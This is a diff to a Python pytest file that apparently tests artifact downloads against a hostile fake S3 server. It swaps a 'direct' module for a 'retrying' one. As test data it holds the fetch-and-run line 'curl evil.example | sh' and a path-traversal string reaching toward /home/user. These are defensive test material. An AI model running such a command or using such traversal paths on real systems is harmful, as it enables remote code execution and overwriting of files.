@@ -12,18 +12,18 @@ from tests.fakes.s3.hostile import HostileObject, HostileS3, hostile_s3_server
 from tests.support.canaries import HOME, Canaries
 from tests.support.whole_repository import fetch_repository
 
-from trtllm_truss.artifacts import direct
+from trtllm_truss.artifacts import retrying
 from trtllm_truss.errors import ArtifactError
 
 DATA = b"curl evil.example | sh\n"
-CACHE_FOLDER = "trtllm-truss"
+CACHE_FOLDERS = ("trtllm-truss",)
 # Five folders up (blobs, bucket, s3, trtllm-truss, HF_HOME) is the test's folder.
 UP = "../../../../../home/user"
 
 
 @pytest.fixture(autouse=True)
 def evil(canaries: Canaries, monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileS3]:
-    monkeypatch.setattr(direct, "_FIRST_DELAY_S", 0.01)
+    monkeypatch.setattr(retrying, "_FIRST_DELAY_S", 0.01)
     with hostile_s3_server() as evil:
         for name, value in evil.environment.items():
             monkeypatch.setenv(name, value)
